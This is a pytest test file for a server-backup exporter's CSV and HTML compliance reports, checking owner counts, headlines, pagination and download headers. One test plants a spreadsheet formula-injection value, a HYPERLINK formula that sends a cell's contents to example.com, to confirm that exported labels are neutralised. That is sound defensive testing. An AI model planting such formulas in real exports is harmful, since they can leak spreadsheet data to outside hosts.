"""Tests of what is made for reports: CSV, and the compliance by owner."""

from __future__ import annotations

import csv
import json
import re
from typing import Any

import pytest
from builders import DAY
from looker import served
from stores import TIME, a_backup, a_panel, a_server, a_store, add_server

from exporter.model.selection import Expectation
from exporter.model.store import PanelStore, Store

_DAILY = Expectation(own_interval_seconds=DAY, backup_required=True)
_OWNER_COLUMNS = [
    *("panel", "user_id", "servers", "in_time", "not_in_time", "unknown"),
    "backup_size_bytes",
]


def owned_servers() -> Store:
    """Return two panels, on which the same numbers are different owners."""
    one, two = a_panel("lon1"), a_panel("ams1", unresolved=frozenset({"gone"}))
    _add(one, 1, user_id=7)
    _add(one, 2, user_id=7, days=9)
    _add(one, 3, user_id=7, suspended=True)
    _add(one, 4, user_id=8, days=9, expectation=Expectation(backup_required=False))
    _add(two, 5, user_id=7)
    two.register_server(6, a_server(id=6, user_id=9), _DAILY)
    return a_store(one, two)


def _add(
    panel: PanelStore,
    number: int,
    *,
    days: float = 0.5,
    expectation: Expectation = _DAILY,
    **fields: Any,
) -> None:
    """Add a server whose only backup, of a thousand bytes, is so many days old."""
    server = a_server(id=number, label=f"web-{number}", **fields)
    at = TIME - days * DAY
    add_server(panel, server, a_backup(size_bytes=1000, created_at=at, built_at=at))
    panel.register_server(number, server, expectation)


def _panel_of(expectation: Expectation) -> PanelStore:
    panel = a_panel("lon1")
    _add(panel, 1, expectation=expectation)
    return panel


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines()))


async def test_compliance_is_counted_by_owner() -> None:
    """Only servers that need backups are in time or not; the worst owner is first."""
    async with served(owned_servers()) as looker:
        _, text = await looker.get("/compliance", format="csv")
        _, page = await looker.get("/compliance")
        total = (await looker.status())["compliance"]
    found = list(csv.reader(text.splitlines()))
    cells = re.findall(r'class="first">(.*?)</th>\s*(.*?)</tr>', page, re.DOTALL)
    shown = [re.findall(r">(\d+)<", row) for _, row in cells]

    assert found == [
        _OWNER_COLUMNS,
        ["lon1", "7", "3", "1", "1", "0", "3000"],
        ["ams1", "9", "1", "0", "0", "1", "0"],
        ["ams1", "", "1", "0", "0", "1", "0"],
        ["ams1", "7", "1", "1", "0", "0", "1000"],
        ["lon1", "8", "1", "0", "0", "0", "1000"],
    ]
    assert "user 7" in cells[0][0]
    assert "not known" in cells[2][0]
    assert shown == [[row[3], row[4], row[5], row[2]] for row in found[1:]]
    assert total == {
        name: sum(int(row[column]) for row in found[1:])
        for column, name in enumerate(_OWNER_COLUMNS)
        if column >= 2
    }


@pytest.mark.parametrize(
    ("store", "compliance"),
    [
        (
            owned_servers(),
            "2 of 3 servers that need backups are in time; not known for 2 servers",
        ),
        (a_store(_panel_of(_DAILY)), "1 of 1 server that needs backups is in time"),
        (a_store(_panel_of(Expectation(backup_required=False))), ""),
    ],
    ids=["some unknown", "one", "none needed"],
)
async def test_the_headline_ends_with_the_compliance(
    store: Store, compliance: str
) -> None:
    """What is not known is named only where there is such a server."""
    async with served(store) as looker:
        _, page = await looker.get("/")
    (headline,) = re.findall(r"<h1>(.*?)</h1>", page)

    assert re.sub(r".* critical, \d+ warnings?(; )?", "", headline) == compliance


async def test_a_report_is_of_the_chosen_servers_of_every_page() -> None:
    """A page size would cut a report short."""
    async with served(owned_servers()) as looker:
        _, every = await looker.get("/api/v1/status", format="csv", per_page=1)
        _, chosen = await looker.get("/api/v1/status", format="csv", state="problem")
        _, owners = await looker.get("/compliance", format="csv", panel="ams1")
        ids = await looker.ids(), await looker.ids(state="problem")

    assert [row["vm_id"] for row in _rows(every)] == ids[0]
    assert [row["vm_id"] for row in _rows(chosen)] == ids[1]
    assert 0 < len(ids[1]) < len(ids[0])
    assert [row["panel"] for row in _rows(owners)] == ["ams1"] * 3


async def test_csv_has_the_values_of_the_json() -> None:
    """With all states and reasons; unknown values are empty."""
    async with served(owned_servers()) as looker:
        _, text = await looker.get("/api/v1/status", format="csv")
        servers = (await looker.status())["servers"]
    rows = _rows(text)

    assert rows == [_as_row(server) for server in servers]
    assert "overdue by 8 d" in [row["reasons"] for row in rows]


def _as_row(server: dict[str, Any]) -> dict[str, str]:
    values: dict[str, Any] = {**server, "states": server["state"], "reasons": ""}
    problems = values.pop("problems")
    del values["targets"], values["last_error"]
    if problems:
        values["states"] = " ".join(p["state"] for p in problems)
        values["reasons"] = "; ".join(filter(None, (p["reason"] for p in problems)))
    return {
        key: value if isinstance(value, str) else json.dumps(value).replace("null", "")
        for key, value in values.items()
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_no_text_of_a_panel_is_a_formula(start: str) -> None:
    """A spreadsheet would run what a customer has written into a label."""
    evil = start + 'HYPERLINK("https://example.com?"&A1;"a,\nb")'
    panel = a_panel()
    add_server(panel, a_server(label=evil, hostname=evil, identifier=evil))
    async with served(a_store(panel)) as looker:
        _, text = await looker.get("/api/v1/status", format="csv")
    head, row = csv.reader(text.splitlines(keepends=True))
    found = dict(zip(head, row, strict=True))

    assert found["label"] == found["hostname"] == found["identifier"] == f"'{evil}"


async def test_a_browser_saves_csv() -> None:
    """Under a name that says what it is."""
    async with served(owned_servers()) as looker:
        for path, name in (
            ("/api/v1/status", "servers"),
            ("/compliance", "compliance"),
        ):
            url = f"{looker.base}{path}?format=csv"
            async with looker.session.get(url) as answer:
                assert answer.content_type == "text/csv"
                assert answer.charset == "utf-8"
                assert answer.headers["Content-Disposition"] == (
                    f'attachment; filename="onapp-backup-{name}.csv"'
                )


@pytest.mark.parametrize(
    ("path", "formats"),
    [("/", "html"), ("/compliance", "html, csv"), ("/api/v1/status", "json, csv")],
)
async def test_an_unknown_format_is_refused(path: str, formats: str) -> None:
    """Another answer than the wanted one would be read wrongly."""
    async with served(owned_servers()) as looker:
        code, text = await looker.get(path, format="xml")

    assert code == 400
    assert f"format: must be one of {formats}" in text


async def test_many_owners_are_shown_on_several_pages() -> None:
    """With a way between them; what was chosen stays chosen."""
    panel = a_panel()
    for number in range(1, 206):
        add_server(panel, a_server(id=number, user_id=number), a_backup())
    async with served(a_store(panel)) as looker:
        _, first = await looker.get("/compliance", q="web")
        (way,) = re.findall(r'rel="next" href="([^"]*)"', first)
        _, second = await looker.get(f"/{way.replace('&amp;', '&')}&")

    assert first.count("user ") == 200
    assert second.count("user ") == 5
    assert "q=web" in way
